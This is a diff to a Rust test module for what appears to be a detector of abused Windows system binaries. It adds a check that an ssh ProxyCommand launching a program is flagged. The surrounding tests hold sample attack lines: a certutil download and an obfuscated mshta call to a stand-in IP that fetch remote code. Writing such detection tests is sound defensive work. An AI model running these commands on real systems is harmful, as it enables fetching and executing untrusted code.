@@ -462,6 +462,11 @@ mod tests {
             found(Kind::Bat, "certutil -urlcache -f http://192.0.2.1/a b\r\n"),
             ["lolbin-command high"]
         );
+        let ssh = |command: &str| {
+            let line = format!("ssh -o ProxyCommand=\"{command}\" host\r\n");
+            found(Kind::Bat, &line).contains(&"lolbin-command high".to_owned())
+        };
+        assert!(ssh("cmd /c start calc") && !ssh("ssh -W %h:%p gate"));
         assert_eq!(
             found(Kind::Vbs, "x = \"msh\" & \"ta http://192.0.2.1/a\"\r\n"),
             ["lolbin-command high"]
